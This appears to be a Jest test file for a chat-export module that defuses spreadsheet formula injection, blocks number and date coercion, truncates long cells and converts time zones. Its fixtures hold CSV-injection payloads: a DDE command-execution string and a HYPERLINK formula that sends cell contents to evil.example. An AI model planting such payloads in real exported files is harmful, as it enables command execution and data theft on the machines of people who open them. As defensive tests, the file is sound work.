/** Nothing that a customer or a bot says is calculated by a spreadsheet; what is a number stays one. */
import { type Cell, cellText, defused } from '../../src/domain/export/cells';
import { restOf, valueOf, VariableNames } from '../../src/domain/export/variables';
import { zoneTimes } from '../../src/domain/export/zoneTimes';

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '\u00a0=1',
  '\u3000=1',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠SUM(1)',
  '﹦1',
  '﹢1',
  '﹣1+1',
  '﹫x',
  '−1+1',
  '"=1',
  "'=1",
  '“=1',
  "''=1",
  '\u200b=1',
  '\ufeff=1',
  '\u200e=1',
  '\u202e=1',
  '\u2066=1',
  '\u00ad=1',
  '\u3164=1',
  '\u2800=1',
  '\u0000=1',
  '\u0001=1',
  '" \u200b\t"=1',
  '+49 30 1234567',
  '+4930123',
  '-',
  '- one of a list',
];
test.each(FORMULAS)('%j is text and no formula', (said) => {
  expect(defused(said)).toBe(`'${said.replaceAll('\0', '')}`);
});

test.each([
  ['red;=cmd()', "red;'=cmd()"],
  ['red,=cmd()', "red,'=cmd()"],
  ['red\t@SUM(1)', "red\t'@SUM(1)"],
  ['Hello\n=1+1', "Hello\n'=1+1"],
  ['Hello\r\n  ＝1', "Hello\r\n  '＝1"],
  ['x";=1', 'x";\'=1'],
])('nor is what begins in the middle, where a program of another language takes a cell to begin: %j', (said, is) => {
  expect(defused(said)).toBe(is);
});

test.each([
  'Hello',
  'a=b',
  'me@contoso.example',
  '1+1',
  'C:\\=x',
  'Points:\n- one\n- two',
  'well-known',
  '-12',
  '-12.5',
  '-0,75',
  '12',
  '',
  '👍🏽',
  'עברית',
])('%j stays as it is', (said) => {
  expect(defused(said)).toBe(said);
});

const written = (cell: Cell, decimal: '.' | ',' = '.') => cellText(cell, { decimal, cut: (of) => `[${of}]` });

test('numbers are written as the language has them, and are text only where digits would be lost', () => {
  expect([written(-1.5, ','), written(-1.5), written(1_042, ','), written(-7)]).toEqual(['-1,5', '-1.5', '1042', '-7']);
  // A spreadsheet keeps 15 digits, also of what a bot gave as a number.
  expect([written(4_111_111_111_111_111), written(-1_234_567_890_123_456, ','), written(123_456_789_012_345)]).toEqual([
    "'4111111111111111",
    "'-1234567890123456",
    '123456789012345',
  ]);
  expect([written(0.1 + 0.2), written(1e21)]).toEqual(['0.30000000000000004', '1e+21']);
  expect([written(true), written(null)]).toEqual(['true', '']);
});

test.each(['00471', '01067', '-007', '4111111111111111', '12E4', '1.5e-3', '1-2', '3/4', '10/2026', '1.5.'])(
  '%j is what was said, and not what a spreadsheet would make of it',
  (said) => {
    expect([written(said), written(said, ',')]).toEqual([`'${said}`, `'${said}`]);
  },
);

test.each([
  // Numbers of orders, and days that are others elsewhere.
  '10-11-12',
  '12/10/45',
  '3/4/2026',
  '2026-1-5',
  '1.2.2026',
  '10.11.12',
  // Months in words.
  'MAR1',
  'SEPT2',
  'Dec-12',
  '1-Mai',
  '5 May',
  '5 May 2026',
  'May 5, 2026',
  'October 2026',
  '3. Oktober',
  'déc. 12',
  // What accountants call less than nothing, shares and durations.
  '(123)',
  '(1,234.50)',
  '3:2',
  '90:30',
  '1:2:3',
  // Digits are lost.
  '1234567890.1234567',
  '1,234,567,890,123,456',
])('%j, that a spreadsheet would take for a day, a time or less than nothing, is what was said', (said) => {
  expect([written(said), written(said, ',')]).toEqual([`'${said}`, `'${said}`]);
});

test.each([
  '2026-11-27 07:30',
  '07:30:15',
  '23:59',
  'May',
  'may 5 people',
  'Mark 1',
  'Decor 12',
  '10-11-12-13',
  '1,234,567',
  'room (12)',
  '192.168.0.1',
  'A-1234/56',
])('%j is left alone', (said) => expect(written(said)).toBe(said));

test('text that looks like a number of the other language stays text', () => {
  expect([written('1,5'), written('1.5', ','), written('-12,75')]).toEqual(["'1,5", "'1.5", "'-12,75"]);
  expect([written('1.5'), written('1,5', ','), written('-12.75'), written('0.5'), written('0')]).toEqual([
    '1.5',
    '1,5',
    '-12.75',
    '0.5',
    '0',
  ]);
  expect([written('2026-11-27'), written('471'), written('123456789012345')]).toEqual([
    '2026-11-27',
    '471',
    '123456789012345',
  ]);
  expect([written('07:30'), written('0171-23 Halle 4'), written('x-1')]).toEqual(['07:30', '0171-23 Halle 4', 'x-1']);
});

test('a cell is no longer than spreadsheets take, says so, and ends with a whole character', () => {
  expect(written('x'.repeat(32_767))).toHaveLength(32_767);
  const cut = written('x'.repeat(100_000));
  expect([cut.length, cut.slice(-9)]).toEqual([32_767, 'x[100000]']);
  // Made longer by what takes formulas their sting.
  expect(written('\n=1'.repeat(10_000))).toHaveLength(32_767);
  for (const before of ['', 'x']) {
    const faces = written(`${before}${'😀'.repeat(20_000)}`);
    expect(Buffer.from(faces).toString()).toBe(faces);
    expect(faces.length).toBeGreaterThan(32_760);
  }
});

test('a day on which clocks change has right times', () => {
  const berlin = zoneTimes('Europe/Berlin');
  expect(
    ['2026-03-29T00:59:59Z', '2026-03-29T01:00:00Z', '2026-10-25T00:30:00Z', '2026-10-25T01:30:00Z'].map((at) =>
      berlin(new Date(at)),
    ),
  ).toEqual(['2026-03-29 01:59:59', '2026-03-29 03:00:00', '2026-10-25 02:30:00', '2026-10-25 02:30:00']);
  expect(zoneTimes('Asia/Kathmandu')(new Date('2026-01-01T00:00:00Z'))).toBe('2026-01-01 05:45:00');
  expect(berlin(null)).toBeNull();
});

test('the most frequent variables get columns, the others stand together', () => {
  const names = new VariableNames();
  for (const [name, count] of [
    ['order', 9],
    ['rare', 1],
    ['city', 4],
  ] as const)
    names.add(name, count);
  expect(names.columns(2)).toEqual(['city', 'order']);
  expect(names.columns(3)).toEqual(['city', 'order', 'rare']);
});

test('bots that invent names have no end of them, and the desk has', () => {
  const names = new VariableNames();
  for (let n = 0; n < 6_000; n += 1) names.add(`name-${n}`, 1);
  expect(names.columns(5_500)).toHaveLength(5_000);
});

test('what was captured twice under one name loses nothing', () => {
  const variables = [
    { name: 'order', value: 1 },
    { name: 'order', value: 'two' },
    { name: '__proto__', value: true },
    { name: 'none', value: null },
  ];
  expect(valueOf(variables, 'order')).toBe('1 | two');
  expect(valueOf(variables, '__proto__')).toBe(true);
  expect(valueOf(variables, 'constructor')).toBeNull();
  expect(restOf(variables, new Set(['order', '__proto__']))).toBe('{"none":null}');
  expect(restOf(variables, new Set(['order', '__proto__', 'none']))).toBeNull();
  expect(restOf(variables, new Set(['__proto__', 'none']))).toBe('{"order":"1 | two"}');
});
